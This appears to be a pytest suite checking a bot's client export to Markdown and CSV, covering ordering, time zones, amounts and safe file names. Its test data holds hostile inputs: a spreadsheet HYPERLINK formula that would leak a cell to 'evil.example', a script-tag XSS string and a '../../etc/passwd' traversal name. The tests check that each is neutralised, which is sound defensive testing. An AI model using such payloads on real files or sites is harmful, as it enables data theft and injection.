"""`/client export <name>`: the Markdown dossier and the CSV, read back and checked against the store."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone
from zoneinfo import ZoneInfo

import pytest

from bot import fmt, timeline
from bot.export import CSV_COLUMNS, read_cell
from bot.replies import Reply
from bot.timeline import TimelineEvent
from storage.records import Owner

OWNER = Owner("W1", "U1")
ZONE = "Asia/Ho_Chi_Minh"  # UTC+7 all year: an off-by-a-zone bug cannot hide
TRICKY_NOTES = [
    'Says: "others would do it for half", then, after a pause, "or less"',
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click me\")",
    "+31 6 1234 5678 called at midnight",
    "-- first line\nsecond line, with a comma\n\nfourth line after a blank one",
    "@channel 🚩🔥 shouted in the group chat — «inacceptable» <script>alert(1)</script> &amp; more",
    "\tindented with a tab",
]


def _files(replies: list[Reply]) -> dict[str, bytes]:
    [reply] = replies
    return {f.filename.rsplit(".", 1)[1]: f.content for f in reply.files}


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(content.decode("utf-8"), newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


@pytest.fixture
def acme(say, submit, clock, store):
    """A client with incidents (logged at different moments, notes full of traps), invoices and payments."""
    say(f"/redflag settings tz={ZONE}")
    say("/client add Acme terms=30 currency=EUR")
    clock.set(datetime(2026, 9, 1, 23, 30, tzinfo=timezone.utc))  # already 2 Sep in Ho Chi Minh City
    say("/invoice add Acme 1200.50 issued=2026-09-02 due=2026-10-02 ref=INV-1")
    client = store.clients.by_name(OWNER, "acme")
    for n, note in enumerate(TRICKY_NOTES):
        clock.advance(days=9, minutes=17)
        if note.startswith("\t"):  # the form and the command trim edges; other paths (imports, captures) may not
            store.incidents.add(OWNER, client.id, "scope-creep", note, occurred_at=clock.now)
            continue
        if "\n" in note:
            replies = submit("incident", {"client": "Acme", "kind": "scope-creep", "note": note}, request_id=f"form-{n}")
        else:
            replies = say(f"/incident Acme haggling {note}")
        assert not replies[0].is_error, replies[0].plain()
    clock.set(datetime(2026, 10, 20, 8, 0, tzinfo=timezone.utc))
    assert not say("/invoice paid INV-1 500 on=2026-10-20")[0].is_error
    assert not say("/invoice add Acme $300 issued=2026-10-01 due=2026-10-31 ref=US-7")[0].is_error
    clock.set(datetime(2026, 11, 25, 10, 0, tzinfo=timezone.utc))
    return client


def _stored(store, client) -> list[tuple[str, str, str, str, str, str]]:
    """What the store holds for the client, as (utc time, type, detail, ref, amount_minor, currency), oldest first."""
    tz = ZoneInfo(ZONE)
    rows = []
    for i in store.incidents.for_client(OWNER, client.id):
        rows.append((i.occurred_at.astimezone(timezone.utc).isoformat(), "incident", i.note, "", "", ""))
    for inv in store.invoices.list(OWNER, client.id):
        start = datetime.combine(inv.issued_on, datetime.min.time(), tzinfo=tz).astimezone(timezone.utc)
        rows.append((start.isoformat(), "invoice", "", inv.ref, str(inv.amount_minor), inv.currency))
        for p in store.invoices.payments(OWNER, inv.id):
            paid = datetime.combine(p.paid_on, datetime.min.time(), tzinfo=tz).astimezone(timezone.utc)
            rows.append((paid.isoformat(), "payment", "", inv.ref, str(p.amount_minor), p.currency))
    return sorted(rows, key=lambda r: (r[0], r[1]))


def test_csv_holds_exactly_the_stored_events_in_order(say, store, acme) -> None:
    files = _files(say("/client export acme"))
    rows = _csv_rows(files["csv"])
    got = [
        (r["timestamp_utc"], r["type"], read_cell(r["detail"]), read_cell(r["ref"]), r["amount_minor"], r["currency"])
        for r in rows
    ]
    assert got == _stored(store, acme)
    assert len(rows) == len(TRICKY_NOTES) + 3  # 6 incidents, 2 invoices, 1 payment
    for r in rows:
        utc = datetime.fromisoformat(r["timestamp_utc"])
        local = datetime.fromisoformat(r["timestamp"])
        assert local == utc and local.utcoffset().total_seconds() == 7 * 3600  # the user's zone, same instant
        assert r["client"] == "Acme"
    amounts = {(r["ref"], r["type"]): (r["amount"], r["currency"]) for r in rows if r["ref"]}
    assert amounts == {
        ("INV-1", "invoice"): ("1200.50", "EUR"),
        ("INV-1", "payment"): ("500.00", "EUR"),
        ("US-7", "invoice"): ("300.00", "USD"),
    }
    invoice = next(r for r in rows if r["type"] == "invoice" and r["ref"] == "INV-1")
    assert invoice["timestamp"] == "2026-09-02T00:00:00+07:00" and invoice["date_only"] == "true"


def test_csv_notes_survive_and_never_run_as_formulas(say, acme) -> None:
    raw = _files(say("/client export Acme"))["csv"]
    assert raw.decode("utf-8")  # UTF-8, emoji and all
    parsed = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    for row in parsed:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    details = [read_cell(r["detail"]) for r in _csv_rows(raw) if r["type"] == "incident"]
    assert details == TRICKY_NOTES
    formula = next(r for r in _csv_rows(raw) if "HYPERLINK" in r["detail"])
    assert formula["detail"] == "'" + TRICKY_NOTES[1]


def test_markdown_lists_every_event_in_order_in_the_users_zone(say, store, acme) -> None:
    md = _files(say("/client export Acme"))["md"].decode("utf-8")
    tz = ZoneInfo(ZONE)
    incidents = store.incidents.for_client(OWNER, acme.id)
    assert len(incidents) == len(TRICKY_NOTES)
    # every incident heading carries its local time, and they come in time order with the invoices between them
    expected = [("Sep 2, 2026", "Invoice INV-1")]
    expected += [(fmt.moment("en", tz, i.occurred_at), "Incident: ") for i in incidents[:3]]
    expected += [("Oct 1, 2026", "Invoice US-7")]
    expected += [(fmt.moment("en", tz, i.occurred_at), "Incident: ") for i in incidents[3:5]]
    expected += [("Oct 20, 2026", "Payment of €500.00 on INV-1, 18 days late")]
    expected += [(fmt.moment("en", tz, i.occurred_at), "Incident: ") for i in incidents[5:]]
    headings = [line for line in md.splitlines() if line.startswith("### ")]
    assert len(headings) == len(expected)
    for n, (heading, (when, summary)) in enumerate(zip(headings, expected), start=1):
        assert heading.startswith(f"### {n}. {when} — {summary}"), heading
    # the first incident was logged at 23:47 UTC on 10 Sep: already 06:47 on 11 Sep in Ho Chi Minh City
    first = fmt.moment("en", tz, datetime(2026, 9, 10, 23, 47, tzinfo=timezone.utc))
    assert first.startswith("Sep 11, 2026, 6:47")
    assert f"### 2. {first} — Incident: Haggling" in md
    assert "All times are in Asia/Ho_Chi_Minh." in md


def test_markdown_keeps_notes_verbatim_but_harmless(say, acme) -> None:
    md = _files(say("/client export Acme"))["md"].decode("utf-8")
    assert '> Says: "others would do it for half", then, after a pause, "or less"' in md
    assert '> =HYPERLINK("http://evil.example/?leak="&A1, "Click me")' in md
    assert "> -- first line\n> second line, with a comma\n>\n> fourth line after a blank one" in md
    assert "🚩🔥" in md and "«inacceptable»" in md
    assert "<script>" not in md and "&lt;script>alert(1)&lt;/script>" in md
    assert "&amp;amp; more" in md  # an entity in a note renders as typed, not as "&"


def test_markdown_summary_invoices_and_payments(say, acme) -> None:
    md = _files(say("/client export Acme"))["md"].decode("utf-8")
    assert md.startswith("# Paper trail: Acme\n")
    assert "- **Payment terms:** 30 days" in md
    assert "- **Incidents:** 6 (Haggling ×4, Scope creep ×2)" in md
    assert "- **Still owed:** €700.50 + $300.00" in md  # per currency, never converted
    assert "- **Received:** €500.00" in md
    assert "| INV-1 | Sep 2, 2026 | Oct 2, 2026 | €1,200.50 | €500.00 | €700.50 | open | 54 |" in md
    assert "| US-7 | Oct 1, 2026 | Oct 31, 2026 | $300.00 | $0.00 | $300.00 | open | 25 |" in md
    assert "| Oct 20, 2026 | INV-1 | €500.00 | 18 |" in md


def test_export_files_are_named_and_typed(say, acme) -> None:
    [reply] = say('/client export "ACME"')
    assert [(f.filename, f.mime) for f in reply.files] == [
        ("redflag-acme-1-2026-11-25-170000.md", "text/markdown; charset=utf-8"),
        ("redflag-acme-1-2026-11-25-170000.csv", "text/csv; charset=utf-8"),
    ]
    assert reply.text == "The paper trail for Acme: 9 events, as a Markdown dossier and a CSV file."
    assert reply.private


def test_every_registered_source_is_exported(say, acme, monkeypatch) -> None:
    """Nudges sent and dialogue decisions reach the export through the timeline's list of sources."""

    def extra(ctx, client):
        return [
            TimelineEvent(at=datetime(2026, 10, 9, 2, 0, tzinfo=timezone.utc), type="nudge", summary="Friendly reminder sent for INV-1", ref="INV-1"),
            TimelineEvent(at=datetime(2026, 11, 24, 16, 0, tzinfo=timezone.utc), type="decision", summary="Decision: fire with notice", detail="Scope creep, 4 rounds"),
        ]

    listed = timeline.sources()
    monkeypatch.setattr(timeline, "sources", lambda: [*listed, extra])
    files = _files(say("/client export Acme"))
    rows = _csv_rows(files["csv"])
    assert [(r["timestamp"], r["type"]) for r in rows if r["type"] in ("nudge", "decision")] == [
        ("2026-10-09T09:00:00+07:00", "nudge"),
        ("2026-11-24T23:00:00+07:00", "decision"),
    ]
    md = files["md"].decode("utf-8")
    assert "— Friendly reminder sent for INV-1" in md and "> Scope creep, 4 rounds" in md
    assert "- **Reminders sent:** 1" in md and "- **Decisions taken:** 1" in md
    assert md.index("Friendly reminder") < md.index("Payment of €500.00") < md.index("Decision: fire")


def test_a_client_with_no_records_gets_an_answer_not_an_empty_file(say) -> None:
    say("/client add Quiet")
    [reply] = say("/client export quiet")
    assert reply.files == ()
    assert not reply.is_error
    assert reply.text == "There is nothing on file for Quiet yet, so there is nothing to export."
    assert '/incident "Quiet"' in reply.context


def test_export_of_an_unknown_client_suggests_one(say) -> None:
    say('/client add "Acme Corp"')
    [reply] = say("/client export acme crop")
    assert reply.is_error and reply.files == ()
    assert "Did you mean “Acme Corp”?" in reply.plain()
    assert 'How to write it: /client export "Acme Corp"' in reply.plain()


def test_export_without_a_name_says_how(say) -> None:
    say("/client add Acme")
    [reply] = say("/client export")
    assert reply.is_error and reply.files == ()
    assert 'How to write it: /client export "Acme Corp"' in reply.plain()


def test_export_is_scoped_to_the_user(say) -> None:
    say("/client add Acme")
    say("/incident Acme abuse private note of U1")
    [reply] = say("/client export Acme", user="U2")
    assert reply.is_error and reply.files == ()
    assert "private note" not in reply.plain()


def test_export_in_dutch_for_a_dutch_user(say, clock) -> None:
    say("/redflag settings lang=nl tz=Europe/Amsterdam")
    say("/client add Acme currency=EUR")
    clock.set(datetime(2026, 7, 1, 12, 0, tzinfo=timezone.utc))  # summer time: UTC+2
    say("/incident Acme scope-creep Nog een ronde, gratis natuurlijk")
    clock.set(datetime(2026, 11, 25, 10, 0, tzinfo=timezone.utc))
    [reply] = say("/client export Acme")
    md = reply.files[0].content.decode("utf-8")
    assert md.startswith("# Dossier: Acme\n")
    assert "## Tijdlijn" in md
    assert fmt.moment("nl", ZoneInfo("Europe/Amsterdam"), datetime(2026, 7, 1, 12, 0, tzinfo=timezone.utc)) in md
    assert "14:00" in md
    [row] = _csv_rows(reply.files[1].content)
    assert row["timestamp"] == "2026-07-01T14:00:00+02:00"
    assert row["type"] == "incident"  # column values that scripts key on stay English


@pytest.mark.parametrize(
    ("name", "filename"),
    [
        ("Công ty Ánh Dương", "redflag-cong-ty-anh-duong-1-2026-11-25-100000"),
        ("Işık Yazılım A.Ş.", "redflag-isik-yazilim-a-s-1-2026-11-25-100000"),
        ("🚩🚩", "redflag-client-1-2026-11-25-100000"),
        ("../../etc/passwd", "redflag-etc-passwd-1-2026-11-25-100000"),
    ],
)
def test_file_names_are_safe_ascii(say, name, filename) -> None:
    assert not say(f'/client add "{name}"')[0].is_error
    say(f'/incident "{name}" other noted')
    [reply] = say(f'/client export "{name}"')
    assert [f.filename for f in reply.files] == [f"{filename}.md", f"{filename}.csv"]


def test_a_client_name_that_looks_like_a_formula_is_neutralised_too(say) -> None:
    say('/client add "@Acme =1+1"')
    say('/incident "@Acme =1+1" other noted')
    [reply] = say('/client export "@Acme =1+1"')
    [row] = list(csv.reader(io.StringIO(reply.files[1].content.decode("utf-8"), newline="")))[1:]
    assert row[CSV_COLUMNS.index("client")] == "'@Acme =1+1"


async def test_a_real_reminder_sent_by_the_sweep_is_in_the_export(say, store, clock) -> None:
    """Nudges come through the nudge feature's own timeline source, not a copy of it."""
    from bot.nudges.cli import run_once

    say(f"/redflag settings tz={ZONE} hour=9")
    say("/client add Acme currency=EUR")
    clock.set(datetime(2026, 10, 1, 3, 0, tzinfo=timezone.utc))
    assert not say("/invoice add Acme 500 issued=2026-09-01 due=2026-10-01 ref=N-1")[0].is_error
    sent_at = datetime(2026, 10, 8, 2, 5, tzinfo=timezone.utc)  # 09:05 in Ho Chi Minh City, 7 days overdue
    await run_once(store, None, sent_at, stream=io.StringIO(), clock=lambda: sent_at)  # a sweep that ran then
    clock.set(datetime(2026, 11, 25, 10, 0, tzinfo=timezone.utc))
    [reply] = say("/client export Acme")
    rows = _csv_rows(reply.files[1].content)
    nudges = [r for r in rows if r["type"] == "nudge"]
    assert len(nudges) == 1, [r["type"] for r in rows]
    assert nudges[0]["ref"] == "N-1"
    assert nudges[0]["timestamp"].startswith("2026-10-08T09:")
    md = reply.files[0].content.decode("utf-8")
    assert "- **Reminders sent:** 1" in md
